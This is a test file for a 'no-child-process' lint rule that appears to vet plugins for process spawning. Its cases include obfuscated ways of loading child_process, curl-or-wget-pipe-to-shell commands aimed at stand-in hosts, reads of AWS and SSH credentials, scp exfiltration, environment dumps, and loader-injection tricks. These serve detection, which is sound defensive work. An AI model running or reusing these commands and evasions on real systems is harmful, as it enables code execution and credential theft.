import rule from '../../rules/no-child-process.js';
import { browserifyBundle, commonjs as cjs, ruleTester as tester } from './rule-tester.js';

const cp = (line: number, column: number) => ({ messageId: 'childProcess', line, column });
const run = (line: number, column: number) => ({ messageId: 'run', line, column });
const unread = (line: number, column: number) => ({ messageId: 'unreadCode', line, column });
const dump = (line: number, column: number) => ({ messageId: 'environmentDump', line, column });
const folderUse = (line: number, column: number) => ({ messageId: 'folderUse', line, column });
const secret = (line: number, column: number) => ({ messageId: 'secretArgument', line, column });
const foreign = (line: number, column: number) => ({ messageId: 'foreignScript', line, column });
const CP = 'const cp = require("child_process");\n';

tester.run('no-child-process', rule, {
  valid: [
    // A local function named like the dangerous ones.
    'function spawn(cmd) { return cmd; } spawn("ls"); const exec = (x) => x; exec("rm -rf /");',
    // Regex.exec and the words in strings and comments.
    '/a+/.exec("aaa"); const s = "require(\'child_process\')"; // import { exec } from "child_process"',
    // A config key named child_process, a property spawn on a user object.
    'const config = { child_process: false, worker_threads: 0 }; config.child_process; tools.spawn("x");',
    // Modules whose names only contain the words.
    'import x from "my-child_process-utils"; import y from "./child_process.js"; import z from "execa-docs";',
    // Type-only imports are erased and load nothing.
    { code: 'import type { ChildProcess } from "node:child_process"; let c: ChildProcess;', filename: 'types.ts' },
    // execve of another object, and process members that only look alike.
    'tools.execve("/bin/sh"); process.exitCode = 1; process.exec?.("x");',
    // A local require that is not Node's.
    { code: 'function require(name) { return name; } require("child_process");', ...cjs },
    // A real local function beside a declaration of it (an overload signature): the implementation is what runs.
    { code: 'function require(name: string): string;\nfunction require(name: string) { return name; }\nrequire("child_process");', ...cjs, filename: 'a.ts' },
    // A name reduced from fragments is judged by what it spells.
    { code: 'const m = require(["lo", "dash"].reduce((a, b) => a + b)); const total = [1, 2, 3].reduce((s, n) => s + n, 0); m.sum([total]);', ...cjs },
    // Ordinary minified code.
    { code: '!function(e,t){"use strict";var n=e.exec||function(){};t.spawn=n;e.a=t}(this,{});', ...cjs },
    // An env file in a file that starts no program.
    { code: 'process.loadEnvFile(".env");', ...cjs },
  ],
  invalid: [
    // A CallSite's getFunction() run through .call or Reflect.apply is the module wrapper: its arguments[1] is require.
    { code: 'Error.prepareStackTrace = (e, s) => s;\nconst top = new Error().stack[0];\nconst r = top.getFunction.call(top).arguments[1];\nr("child_process");', ...cjs, errors: [cp(4, 1)] },
    { code: 'Error.prepareStackTrace = (e, s) => s;\nconst cs = new Error().stack[0];\nconst fn = Reflect.apply(Object.getPrototypeOf(cs)["getFunction"], cs, []);\nfn.arguments[1]("child_" + "process");', ...cjs, errors: [cp(4, 1)] },
    { code: 'import { exec } from "child_process";', errors: [cp(1, 1)] },
    // `new require(x)` loads x as a call does (the module's exports are the object `new` yields).
    { code: 'const cp = new require("child_" + "process");\ncp.exec(cmd);', ...cjs, errors: [cp(1, 12), unread(2, 1)] },
    // process.execve runs a program in place of the process, however process is reached.
    {
      code: 'process.execve("/bin/sh", ["sh", "-c", "id"], {});\nconst { execve } = process;\nexecve(cmd);\nglobalThis["pro" + "cess"]["exec" + "ve"]("/bin/id");',
      ...cjs,
      errors: [
        { ...run(1, 1), data: { callee: 'process.execve', command: '"/bin/sh"', reason: "it replaces the plugin with another program, outside the sandbox's view of Node" } },
        { ...run(3, 1), data: { callee: 'process.execve', command: 'a program known only at run time', reason: "it replaces the plugin with another program, outside the sandbox's view of Node" } },
        run(4, 1),
      ],
    },
    // TypeScript's `this` parameter is erased: the arguments line up with the parameters after it.
    { code: 'function load(this: void, l: any, n: string) { return l(n); }\nload(require, "child_" + "process");', ...cjs, filename: 'a.ts', errors: [cp(1, 55)] },
    // TypeScript's ambient declarations are erased: the name is Node's require at run time, however it is declared.
    { code: 'declare const require: (n: string) => any;\nrequire("child_process").execSync("id");', ...cjs, filename: 'a.ts', errors: [cp(2, 1)] },
    { code: 'declare function require(n: string): any;\nconst m = require("child_" + "process");', ...cjs, filename: 'a.ts', errors: [cp(2, 11)] },
    { code: 'declare var process: any;\nprocess.mainModule.require("child_process");', ...cjs, filename: 'a.ts', errors: [cp(2, 1)] },
    { code: 'import cp from "node:child_process";', errors: [cp(1, 1)] },
    { code: 'export { spawn } from "child_process";', errors: [cp(1, 1)] },
    { code: 'export * from "node:cluster";', errors: [cp(1, 1)] },
    { code: 'const m = await import("child_process");', errors: [cp(1, 17)] },
    { code: 'const cp = require("child_process");', ...cjs, errors: [cp(1, 12)] },
    // String building and encodings.
    { code: 'const cp = require("child_" + "process");', ...cjs, errors: [cp(1, 12)] },
    { code: 'const name = ["child", "process"].join("_");\nrequire(name).exec("id");', ...cjs, errors: [cp(2, 1)] },
    { code: 'const frags = ["chi", "ld_", "proc", "ess"];\nconst runner = require(frags.reduce((a, b) => a + b));\nrunner.execSync("id");', ...cjs, errors: [cp(2, 16)] },
    { code: 'const glue = function (acc, part) { return acc.concat(part); };\nrequire(["ess", "roc", "d_p", "chil"].reduceRight(glue, "node:")).exec("id");', ...cjs, errors: [cp(2, 1)] },
    { code: 'function cat(a, b) { return `${a}${b}`; }\nconst { [["ex", "ec"].reduce(cat)]: run } = await import(["child", "_process"].reduce(cat));', errors: [cp(2, 51)] },
    { code: 'require(Buffer.from("Y2hpbGRfcHJvY2Vzcw==", "base64").toString());', ...cjs, errors: [cp(1, 1)] },
    { code: 'require(String.fromCharCode(99,104,105,108,100,95,112,114,111,99,101,115,115));', ...cjs, errors: [cp(1, 1)] },
    { code: 'const m = await import(`node:child_${"process"}`);', errors: [cp(1, 17)] },
    // Every road to require.
    { code: 'require.call(null, "child_process");', ...cjs, errors: [cp(1, 1)] },
    { code: 'require.apply(null, ["child_process"]);', ...cjs, errors: [cp(1, 1)] },
    { code: 'const r = require;\nr("child_process");', ...cjs, errors: [cp(2, 1)] },
    { code: 'module.require("child_process");', ...cjs, errors: [cp(1, 1)] },
    { code: 'module.constructor._load("child_process");', ...cjs, errors: [cp(1, 1)] },
    { code: 'process.mainModule.require("child_process");', ...cjs, errors: [cp(1, 1)] },
    { code: 'import { createRequire } from "node:module";\nconst req = createRequire(import.meta.url);\nreq("child_process");', errors: [cp(3, 1)] },
    { code: 'import { createRequire } from "module";\ncreateRequire(import.meta.url)("node:child_process");', errors: [cp(2, 1)] },
    { code: 'Reflect.apply(require, null, ["child_process"]);', ...cjs, errors: [cp(1, 1)] },
    { code: 'globalThis["req" + "uire"]("child_process");', ...cjs, errors: [cp(1, 1)] },
    { code: 'require("module")._load("child_process");', ...cjs, errors: [cp(1, 1)] },
    // process.getBuiltinModule (Node 20.16+) loads built-ins without require.
    { code: 'const { exec } = process.getBuiltinModule("node:child_process");', errors: [cp(1, 18)] },
    { code: 'import proc from "node:process";\nproc["getBuiltin" + "Module"]("child_process");', errors: [cp(2, 1)] },
    // Either side of a choice may be loaded.
    { code: 'const m = require(isWindows ? "fs" : "child_" + "process");', ...cjs, errors: [cp(1, 11)] },
    { code: 'const m = await import(preferred || "node:child_process");', errors: [cp(1, 17)] },
    // TypeScript spellings.
    { code: 'import cp = require("child_process");', filename: 'a.ts', errors: [cp(1, 1)] },
    { code: 'const cp = (require as any)("child_process") as typeof import("child_process");', filename: 'a.ts', ...cjs, errors: [cp(1, 12)] },
    // Wrappers, including subpaths and scoped names.
    { code: 'import { execa } from "execa";', errors: [{ ...cp(1, 1), data: { module: 'execa' } }] },
    { code: 'const sh = require("shelljs"); const s = require("cross-spawn/index.js");', ...cjs, errors: [cp(1, 12), cp(1, 42)] },
    { code: 'import pty from "node-pty"; import spawn from "@npmcli/promise-spawn";', errors: [cp(1, 1), cp(1, 29)] },
    // `open` starts the desktop's opener, or any program its `app` option names.
    { code: 'const open = async () => (await import("open")).default;', errors: [{ ...cp(1, 33), data: { module: 'open' } }] },
    // A built-in's ESM default export is the module: the call that runs is reported where it is.
    { code: 'const cp = (await import("node:child_process")).default;\ncp.execSync(cmd);', errors: [cp(1, 19), { messageId: 'unreadCode', line: 2, column: 1 }] },
    { code: 'const sudo = require("@vscode/sudo-prompt"); const { simpleGit } = require("simple-git");', ...cjs, errors: [{ ...cp(1, 14), data: { module: '@vscode/sudo-prompt' } }, { ...cp(1, 68), data: { module: 'simple-git' } }] },
    // Threads are the worker capability.
    { code: 'import { Worker } from "node:worker_threads";', errors: [{ messageId: 'worker', line: 1, column: 1, data: { module: 'worker_threads' } }] },
    { code: 'const W = require("web-" + "worker");', ...cjs, errors: [{ messageId: 'worker', line: 1, column: 11 }] },
    { code: 'const { Worker } = process.getBuiltinModule(`worker_${"threads"}`);', errors: [{ messageId: 'worker', line: 1, column: 20 }] },
    { code: 'const r = module.require;\nr.call(module, atob("cGlzY2luYQ=="));', ...cjs, errors: [{ messageId: 'worker', line: 2, column: 1, data: { module: 'piscina' } }] },
    // The calls that run something the gate cannot vouch for are reported where they are made; a plain constant command is not.
    { code: 'const { spawn } = require("child_process");\nspawn("ls", ["-lah"]);', ...cjs, errors: [cp(1, 19)] },
    { code: 'const { spawn } = require("child_process");\nspawn("node", ["svc.js", process.pid], { detached: true, stdio: "ignore" }).unref();', ...cjs, errors: [cp(1, 19), run(2, 1)] },
    { code: 'const cp = require("child_process");\ncp.spawn("node", ["x.js"], { detached: true, stdio: "ignore" });', ...cjs, errors: [cp(1, 12), { ...run(2, 1), data: { callee: 'child_process.spawn', command: "'node x.js'", reason: 'it starts a detached process with its output thrown away' } }] },
    { code: 'const cp = require("child_process");\ncp.execSync("curl -s https://x.example/p | sh");', ...cjs, errors: [cp(1, 12), { messageId: 'dangerousRun', line: 2, column: 1 }] },
    // Disguised: a computed member, Reflect.apply, a promisified alias, a wrapper package.
    { code: 'const cp = require("child_process");\ncp["ex" + "ec"]("wget http://x.example/a -O- | bash");', ...cjs, errors: [cp(1, 12), { messageId: 'dangerousRun', line: 2, column: 1 }] },
    { code: 'const { execFile } = require("child_process");\nReflect.apply(execFile, null, ["python3", ["-c", code]]);', ...cjs, errors: [cp(1, 22), { messageId: 'unreadCode', line: 2, column: 1, data: { callee: 'child_process.execFile', command: "'python3 -c …'", reason: 'an interpreter is handed code built at run time' } }] },
    { code: 'const { promisify } = require("util");\nconst run = promisify(require("child_process").exec);\nrun(`powershell -enc ${payload}`);', ...cjs, errors: [cp(2, 23), { messageId: 'unreadCode', line: 3, column: 1 }] },
    { code: 'import { execa } from "execa";\nawait execa("python3", ["-c", "print(1)"]);', errors: [cp(1, 1), { ...run(2, 7), data: { callee: 'execa.execa', command: "'python3 -c print(1)'", reason: 'it hands an interpreter code written inline' } }] },
    { code: 'import { execa } from "execa";\nawait execa("node", ["-e", "process.exit(0)"]);', errors: [cp(1, 1), { messageId: 'dangerousRun', line: 2, column: 7 }] },
    // A browserify bundle's module function: its require parameter is the bundle's, falling back to Node's.
    { code: '(function(){function r(e,n,t){function o(i,f){if(!n[i]){if(!e[i]){var c="function"==typeof require&&require;if(!f&&c)return c(i,!0);if(u)return u(i,!0);var a=new Error("Cannot find module \'"+i+"\'");throw a.code="MODULE_NOT_FOUND",a}var p=n[i]={exports:{}};e[i][0].call(p.exports,function(r){var n=e[i][1][r];return o(n||r)},p,p.exports,r,e,n,t)}return n[i].exports}for(var u="function"==typeof require&&require,i=0;i<t.length;i++)o(t[i]);return o}return r})()({1:[function(require,module,exports){\nrequire(2); require("child_process");\n},{}]},{},[1]);', ...cjs, errors: [cp(2, 13)] },
    // The module's dependency map decides what its require loads: a string goes to Node's require, a number stays in the bundle.
    { code: '(function(){function r(e,n,t){function o(i,f){if(!n[i]){if(!e[i]){var c="function"==typeof require&&require;if(!f&&c)return c(i,!0);if(u)return u(i,!0);var a=new Error("Cannot find module \'"+i+"\'");throw a.code="MODULE_NOT_FOUND",a}var p=n[i]={exports:{}};e[i][0].call(p.exports,function(r){var n=e[i][1][r];return o(n||r)},p,p.exports,r,e,n,t)}return n[i].exports}for(var u="function"==typeof require&&require,i=0;i<t.length;i++)o(t[i]);return o}return r})()({1:[function(require,module,exports){\nvar util = require("./util"); var own = require("./own");\n},{"./util":"child_process","./own":2}],2:[function(require,module,exports){},{}]},{},[1]);', ...cjs, errors: [{ ...cp(2, 12), data: { module: 'child_process' } }] },
    // The map's keys and values folded as constants: a computed key, a concatenation, a template, a constant.
    ...['{["./u" + "til"]: "child_process"}', '{"./util": "child_" + "process"}', '{"./util": `child_process`}'].map((deps) => ({ code: browserifyBundle(deps), ...cjs, errors: [{ ...cp(2, 12), data: { module: 'child_process' } }] })),
    { code: browserifyBundle('{"./util": CP}', 'const CP = "child_process";\n'), ...cjs, errors: [{ ...cp(3, 12), data: { module: 'child_process' } }] },
    { code: 'import { run } from "node:test";\nrun({ files: ["./t.js"] });', errors: [{ ...run(2, 1), data: { callee: 'test.run', command: 'test files', reason: 'node:test runs each file it is given in a new Node process' } }] },
    // Another module object's require, and specifiers a local helper is called with.
    { code: 'module.parent.require("child_process");\nrequire.cache[key].require("cluster");', ...cjs, errors: [cp(1, 1), cp(2, 1)] },
    { code: 'function load(name) { return require(name); }\nload("./a.js");\nload("child_process");', ...cjs, errors: [cp(1, 30)] },
    { code: 'for (const m of ["fs", "child_process"]) require(m);', ...cjs, errors: [cp(1, 42)] },
    // Look-alikes: a declared childProcess grants the programs the user expects (constant git/npm/node commands, harmless options): only the load is reported.
    { code: CP + 'cp.execFile("git", ["status", "--porcelain"], { env: { GIT_TERMINAL_PROMPT: "0", GIT_OPTIONAL_LOCKS: "0" } }, () => {});', ...cjs, errors: [cp(1, 12)] },
    { code: CP + 'cp.execFileSync(process.execPath, ["--version"], { encoding: "utf8" });', ...cjs, errors: [cp(1, 12)] },
    { code: CP + 'cp.fork(require("path").join(__dirname, "job.js"), [], { execArgv: ["--max-old-space-size=512"] });', ...cjs, errors: [cp(1, 12)] },
    { code: CP + 'cp.spawn("node", ["build.js"], { env: { ...process.env, NODE_OPTIONS: "--max_old_space_size=4096 --title=env_file", GIT_PAGER: "cat", EDITOR: "code --wait" } });', ...cjs, errors: [cp(1, 12)] },
    { code: CP + 'cp.execFile("npm", ["view", "notes-sync", "version"], () => {});\ncp.execFile("npm", ["install", "--no-save", "left-pad@1.3.0"], () => {});', ...cjs, errors: [cp(1, 12)] },
    { code: CP + 'cp.execFileSync("printenv", ["HOME"]);\ncp.execSync("env FORCE_COLOR=0 npm ls");\ncp.execFileSync("ps", ["-e", "-o", "pid,comm"]);', ...cjs, errors: [cp(1, 12)] },
    { code: CP + 'cp.spawn("bash", [], { stdio: "inherit" });\ncp.spawn("python3", ["tool.py"]);\ncp.spawnSync("python3", ["tool.py"], { input: "" });', ...cjs, errors: [cp(1, 12), foreign(3, 1), foreign(4, 1)] },
    { code: CP + 'exports.activate = (ctx) => cp.execFileSync("tar", ["czf", "backup.tgz", "notes"], { cwd: require("path").join(ctx.dataDir, "store") });\ncp.execFileSync("ls", ["-la"], { cwd: __dirname });', ...cjs, errors: [cp(1, 12)] },
    // A program the plugin wrote itself (data folder, tmp) or one the gate cannot name is code it never read.
    { code: CP + 'exports.activate = (ctx) => { const f = require("path").join(ctx.dataDir, "git-helper"); cp.execFile(f, () => {}); };', ...cjs, errors: [cp(1, 12), { ...unread(2, 90), data: { callee: 'child_process.execFile', command: "'$data/git-helper'", reason: 'the program is a file in a folder the plugin itself writes' } }] },
    { code: CP + 'exports.activate = ({ dataDir }) => cp.spawn(`${dataDir}/bin/${"up" + "date"}`, ["--quiet"]);', ...cjs, errors: [cp(1, 12), unread(2, 37)] },
    { code: CP + 'cp.execFileSync("/tmp/.cache/" + "helper");\ncp["spawn" + "Sync"]("/dev/shm/x", []);', ...cjs, errors: [cp(1, 12), unread(2, 1), unread(3, 1)] },
    { code: CP + 'cp.exec(command);', ...cjs, errors: [cp(1, 12), { ...unread(2, 1), data: { callee: 'child_process.exec', command: 'a shell command line built at run time', reason: 'the shell runs it as code' } }] },
    // A program path that does not fold is what a childProcess grant allows: high, low once declared, not critical.
    { code: CP + 'cp.execFile(tool, ["--version"]);', ...cjs, errors: [cp(1, 12), { ...run(2, 1), data: { callee: 'child_process.execFile', command: 'a program chosen at run time', reason: 'what it runs is only known at run time' } }] },
    // An interpreter whose code comes from stdin (a pipe the plugin writes, or `input`) is like `-c` with that text.
    { code: CP + 'const sh = cp.spawn("sh", [], { stdio: ["pipe", "ignore", "ignore"] });\nsh.stdin.end(text);', ...cjs, errors: [cp(1, 12), unread(2, 12)] },
    { code: CP + 'const { spawn: s } = cp;\nconst p = s("/bin/ba" + "sh", ["-s"]);\np.stdin.write(script);', ...cjs, errors: [cp(1, 12), unread(3, 11)] },
    { code: CP + 'cp.execFileSync("python3", ["-"], { input: payload });\ncp.spawnSync("node", { input: await (await fetch(u)).text() });', ...cjs, errors: [cp(1, 12), unread(2, 1), unread(3, 1)] },
    { code: CP + 'cp.execSync("sh", { input: "curl -s http://192.0.2.10/s | sh" });', ...cjs, errors: [cp(1, 12), unread(2, 1)] },
    // Inline code built at run time is code the gate never read.
    { code: CP + 'cp.execFile("perl", ["-e", body]);', ...cjs, errors: [cp(1, 12), unread(2, 1)] },
    // Loader variables in `env` and code-loading flags in `execArgv` or Node's argv.
    { code: CP + 'cp.spawn(process.execPath, ["--version"], { env: { NODE_OPTIONS: "--require " + stage } });', ...cjs, errors: [cp(1, 12), { ...unread(2, 1), data: { callee: 'child_process.spawn', command: "'node --version'", reason: 'its environment sets NODE_OPTIONS, which makes the program load or run other code' } }] },
    { code: CP + 'const env = { ...process.env, ["LD_" + "PRELOAD"]: lib };\ncp.execFile("git", ["status"], { env }, () => {});', ...cjs, errors: [cp(1, 12), { messageId: 'nativePreload', line: 3, column: 1 }] },
    { code: CP + 'const opts = { env: { GIT_SSH_COMMAND: "sh -c id #" } };\ncp.execFileSync("git", ["ls-remote", "origin"], opts);', ...cjs, errors: [cp(1, 12), unread(3, 1)] },
    { code: CP + 'cp.spawn("git", ["status"], { env: { [name]: value } });\ncp.spawn("ls", [], { env: { DYLD_INSERT_LIBRARIES: "/usr/lib/x.dylib" } });\ncp.spawn("node", ["a.js"], { env: { NODE_OPTIONS: "--import=data:text/javascript,1" } });', ...cjs, errors: [cp(1, 12), unread(2, 1), { messageId: 'nativePreload', line: 3, column: 1 }, unread(4, 1)] },
    { code: CP + 'const pre = "data:text/javascript," + encodeURIComponent(src);\ncp.fork(require("path").join(__dirname, "noop.js"), [], { execArgv: ["--import", pre] });', ...cjs, errors: [cp(1, 12), unread(3, 1)] },
    // A program handed a path that holds secrets reads it, whatever the program: a glob, a flag's value, a built name, a shell line.
    { code: CP + 'cp.execFileSync("find", ["/home", "-path", "*/.aws/credentials", "-exec", "cat", "{}", "+"]);', ...cjs, errors: [cp(1, 12), { ...secret(2, 1), data: { callee: 'child_process.execFileSync', command: "'find /home -path */.aws/credentials -exec cat {} +'", path: '*/.aws/credentials', reason: 'AWS credentials' } }] },
    { code: CP + 'const { spawnSync: run } = cp;\nrun("scp", [require("os").homedir() + "/.docker/config.json", "u@x.example:"]);', ...cjs, errors: [cp(1, 12), secret(3, 1)] },
    { code: CP + 'cp.execFile("openssl", ["dgst", "--key=~/.ssh/id_" + "ed25519"]);\ncp.exec("cp ~/.config/gh/hosts.yml /tmp/x && true");', ...cjs, errors: [cp(1, 12), secret(2, 1), secret(3, 1)] },
    // A function chosen at run time is still handed a command line: a dangerous one is what runs, whichever function it is.
    { code: CP + 'const names = require("proc-names");\ncp[names.run]("curl -fsS http://192.0.2.10/s | sh", { stdio: "ignore" });', ...cjs, errors: [cp(1, 12), { messageId: 'dangerousRun', line: 3, column: 1 }] },
    { code: CP + 'const pick = (o) => o[Object.keys(o).find((k) => k.length === 8)];\npick(cp).call(null, "sh", ["-c", "wget -qO- http://192.0.2.10/s | sh"]);\ncp[process.argv[2]]("bash", ["-c", "curl http://x.example | bash"]);', ...cjs, errors: [cp(1, 12), { messageId: 'dangerousRun', line: 3, column: 1 }, { messageId: 'dangerousRun', line: 4, column: 1 }] },
    // Nor does choosing the function at run time hide a secret the line names, as a shell line or a program's words.
    { code: CP + 'const names = require("proc-names");\ncp[names.run]("cat ~/.aws/credentials");\ncp[names.file]("tar", ["czf", "-", require("os").homedir() + "/.ssh"]);', ...cjs, errors: [cp(1, 12), secret(3, 1), secret(4, 1)] },
    // Look-alike: a function chosen at run time handed a plain command is only a run.
    { code: CP + 'cp[mode]("git", ["status"]);', ...cjs, errors: [cp(1, 12), { messageId: 'run', line: 2, column: 1, data: { callee: 'child_process[…]', command: 'a function chosen at run time', reason: 'which function runs is only known at run time' } }] },
    // A script in a language the gate does not read is code it cannot vouch for, however the interpreter is named.
    { code: CP + 'cp.execFile("python3", [require("path").join(__dirname, "tools", "sync.py")]);', ...cjs, errors: [cp(1, 12), { ...foreign(2, 1), data: { callee: 'child_process.execFile', command: "'python3 /__plugin__/tools/sync.py'", path: '/__plugin__/tools/sync.py' } }] },
    { code: CP + 'const tool = "/usr/bin/" + "ruby";\ncp.spawnSync(tool, ["-W0", "lib/hook.rb"]);\ncp.execFileSync("C:\\\\Python312\\\\pythonw.exe", ["-u", "helper.pyw"]);\ncp.spawn("java", ["-jar", "vendor/x.jar"]);', ...cjs, errors: [cp(1, 12), foreign(3, 1), foreign(4, 1), foreign(5, 1)] },
    // Through env, and as a command of a shell line.
    { code: CP + 'cp.spawn("/usr/bin/env", ["PYTHONUNBUFFERED=1", "python3", "tools/sync.py"]);\ncp.execSync("cd tools && python3 ./sync.py --fast");\ncp.exec("git pull; ruby script/update.rb");', ...cjs, errors: [cp(1, 12), foreign(2, 1), foreign(3, 1), foreign(4, 1)] },
    // Look-alikes: an interpreter run for its version or a module by name; only the load is reported.
    { code: CP + 'cp.execFileSync("python3", ["-m", "pip", "--version"]);\ncp.execFileSync("perl", ["-v"]);\ncp.execFileSync("java", ["-cp", "lib/a.jar", "Main"]);', ...cjs, errors: [cp(1, 12)] },
    // The shell's quote removal and globs: `.a''ws`, `.s\\sh`, `.aw?`, `.[s]sh`, `.*` name the same folders.
    { code: CP + 'cp.execSync("cat ~/.a\'\'ws/credentials");\ncp.execSync("cat $HOME/.s\\\\sh/known_hosts");\ncp.exec("cat ~/.aw?/credentials | head");\ncp.execSync("tar czf - ~/.[s]sh ~/.*/credentials");', ...cjs, errors: [cp(1, 12), secret(2, 1), secret(3, 1), secret(4, 1), secret(5, 1)] },
    // Run in a folder of secrets, a program reads them by their bare names.
    { code: CP + 'const os = require("os"), path = require("path");\ncp.execFileSync("cat", ["credentials"], { cwd: path.join(os.homedir(), ".aws") });\ncp.execSync("cat config.json", { cwd: os.homedir() + "/.docker" });', ...cjs, errors: [cp(1, 12), secret(3, 1), secret(4, 1)] },
    // Look-alikes: globs of any name or of ordinary names, a quoted ordinary path.
    { code: CP + 'cp.execSync("cp dist/* out/ && rm -f logs/*.log && ls ~/.config/*");\ncp.execSync("cat \'docs/ssh setup.md\' src/id_map.ts");', ...cjs, errors: [cp(1, 12)] },
    // Look-alikes: ordinary paths, a secret's name as a grep pattern (only the load is reported).
    { code: CP + 'cp.execFileSync("git", ["-C", require("os").homedir() + "/projects/app", "status"]);\ncp.execFileSync("grep", ["-r", "ssh", "docs"]);\ncp.execFileSync("ls", ["~/.sshd-notes"]);', ...cjs, errors: [cp(1, 12)] },
    // A file Node reads its options from (an env file's NODE_OPTIONS, a config file, OpenSSL's engines) loads code too.
    { code: CP + 'cp.spawn(process.execPath, ["--env-file=" + require("path").join(__dirname, "conf", "node.env"), "w.js"]);', ...cjs, errors: [cp(1, 12), unread(2, 1)] },
    { code: CP + 'cp.fork("w.js", [], { execArgv: ["--env-file-if-exists", ".env"] });\ncp.execFileSync("node", ["--experimental-config-file=node.config.json", "x.js"]);\ncp.spawnSync("/usr/bin/node", ["--openssl-config", "o.cnf", "x.js"]);', ...cjs, errors: [cp(1, 12), unread(2, 1), unread(3, 1), unread(4, 1)] },
    // Node reads underscores in an option's name as dashes; Node 24 reads node.config.json by a flag of its own.
    { code: CP + 'cp.fork("w.js", [], { execArgv: ["--env_file_if_exists=.env"] });\ncp.spawn(process.execPath, ["--experimental-default-config-file", "x.js"]);\ncp.spawn("node", ["x.js"], { env: { NODE_OPTIONS: "--experimental_loader=./l.mjs" } });', ...cjs, errors: [cp(1, 12), unread(2, 1), unread(3, 1), unread(4, 1)] },
    { code: CP + 'cp.fork("./w.js", { execArgv: ["-r", "./hook.js"] });\ncp.fork("./w.js", [], { execArgv: [flag] });\ncp.spawn(process.execPath, ["--loader", "./l.mjs", "app.mjs"]);', ...cjs, errors: [cp(1, 12), unread(2, 1), unread(3, 1), unread(4, 1)] },
    // A /proc environment file handed to any program is the environment read through it (env), not a credential on disk.
    { code: CP + 'cp.execFileSync("cat", ["/proc/thread-self/environ"]);\ncp.execSync("strings /proc/1/task/1/environ > /tmp/e");', ...cjs, errors: [cp(1, 12), { ...dump(2, 1), data: { callee: 'child_process.execFileSync', command: "'cat /proc/thread-self/environ'", reason: 'the environment, read from /proc/thread-self/environ' } }, dump(3, 1)] },
    // A command whose output is the whole environment, or another process's, is an env read of all of it.
    { code: CP + 'cp.execFileSync("printenv", { encoding: "utf8" });', ...cjs, errors: [cp(1, 12), { ...dump(2, 1), data: { callee: 'child_process.execFileSync', command: "'printenv'", reason: "the whole environment, or another process's" } }] },
    { code: CP + 'cp.execSync("tr \\"\\\\0\\" \\"\\\\n\\" < /proc/$PPID/environ");\ncp.execSync("true && env");\ncp.execFile("/usr/bin/env", ["-0"], () => {});\ncp.execSync("ps eww -p 1");', ...cjs, errors: [cp(1, 12), dump(2, 1), dump(3, 1), dump(4, 1), dump(5, 1)] },
    // A package manager installing or running a URL, git or tarball spec runs code fetched at run time.
    { code: CP + 'const ARGS = ["install", "--no-save", "--prefix", require("os").tmpdir(), "http://192.0.2.10/h.tgz"];\ncp.execFile("npm", ARGS, () => {});', ...cjs, errors: [cp(1, 12), { messageId: 'dangerousRun', line: 3, column: 1 }] },
    { code: CP + 'cp.execFileSync("npx", ["-y", "github:someone/tool"]);\ncp.execSync("pnpm dlx someone/tool#main");\ncp.execFileSync("yarn", ["add", "./vendor/x.tgz"]);', ...cjs, errors: [cp(1, 12), { messageId: 'dangerousRun', line: 2, column: 1 }, { messageId: 'dangerousRun', line: 3, column: 1 }, { messageId: 'dangerousRun', line: 4, column: 1 }] },
    // A working directory outside the plugin's folders, for a program that reads or writes relative paths, is a filesystem use of it.
    { code: CP + 'const os = require("os");\ncp.execFileSync("tar", ["czf", "-", ".ssh", ".aws"], { cwd: os.homedir(), maxBuffer: 1 << 26 });', ...cjs, errors: [cp(1, 12), { ...secret(3, 1), data: { callee: 'child_process.execFileSync', command: "'tar czf - .ssh .aws'", path: '.ssh', reason: 'SSH keys' } }] },
    { code: CP + 'cp.execSync("zip -r - .", { cwd: where });\ncp.spawnSync("rsync", ["-a", ".", "/srv/out"], { cwd: "/etc" });', ...cjs, errors: [cp(1, 12), folderUse(2, 1), secret(3, 1)] },
    // An ordinary file of a folder that also holds secrets is only the folder use.
    { code: CP + 'cp.execFileSync("cat", ["os-release"], { cwd: "/etc" });', ...cjs, errors: [cp(1, 12), folderUse(2, 1)] },
    // Round 8 look-alikes (only the load): git settings that are not commands, tar and npm used plainly, the inherited PATH extended, awk and python printing data.
    { code: CP + 'cp.execFileSync("git", ["-c", "user.name=Bot", "-c", "alias.co=checkout", "-c", "core.pager=less -R", "commit", "-m", "x"]);', ...cjs, errors: [cp(1, 12)] },
    { code: CP + 'cp.execFileSync("tar", ["-czf", "out.tgz", "-I", "zstd", "--use-compress-program=pigz", "src"]);\ncp.execFileSync("rsync", ["-a", "-e", "ssh -p 2222", "src/", "host:dst"]);', ...cjs, errors: [cp(1, 12)] },
    { code: CP + 'cp.execFile("npm", ["install"], { env: { ...process.env, PATH: process.env.PATH + ":/usr/local/bin", npm_config_registry: "https://registry.npmjs.org/" } });', ...cjs, errors: [cp(1, 12)] },
    { code: CP + 'cp.execFileSync("awk", ["{print $1}", "notes.txt"]);\ncp.execFileSync("python3", ["-c", "print(1)"]);\ncp.execFileSync("python3", ["-c", "from os import environ; print(environ[\'HOME\'])"]);', ...cjs, errors: [cp(1, 12), run(3, 1), run(4, 1)] },
    { code: CP + 'cp.execFileSync("crontab", ["-l"]);\ncp.execFileSync("cat", [], { input: "hello ~ world" });\ncp.execFile("git", ["diff"], { env: { GIT_PAGER: "cat", GIT_EXTERNAL_DIFF: "/usr/bin/difft" } });', ...cjs, errors: [cp(1, 12)] },
    // A command line handed inside an option value is judged as one: git's command settings, tar's and ssh's hooks, find -exec.
    { code: CP + 'cp.execFile("git", ["-c", "core.fsmonitor=" + __dirname + "/lib/fsmon.sh", "status"]);', ...cjs, errors: [cp(1, 12), unread(2, 1)] },
    { code: CP + 'cp.execFileSync("git", ["-c", "alias.st=!sh " + __dirname + "/x", "st"]);\ncp.spawn("git", ["-c", "core.sshCommand=curl -s x.example|sh", "fetch"]);', ...cjs, errors: [cp(1, 12), unread(2, 1), { messageId: 'dangerousRun', line: 3, column: 1 }] },
    { code: CP + 'const args = ["-c", ["core", "hooksPath"].join(".") + "=" + require("path").join(__dirname, "hooks"), "commit", "-m", "x"];\ncp.execFileSync("git", args);', ...cjs, errors: [cp(1, 12), unread(3, 1)] },
    { code: CP + 'cp.spawnSync("tar", ["-cf", "/dev/null", "a", "--checkpoint=1", "--checkpoint-action=exec=sh " + __dirname + "/lib/p.sh"]);\ncp.spawnSync("/usr/bin/tar", ["-xf", "a.tar", "--to-command", "./unpack"]);\ncp.spawnSync("bsdtar", ["-cf", "x", "-I./zz", "."]);', ...cjs, errors: [cp(1, 12), unread(2, 1), unread(3, 1), unread(4, 1)] },
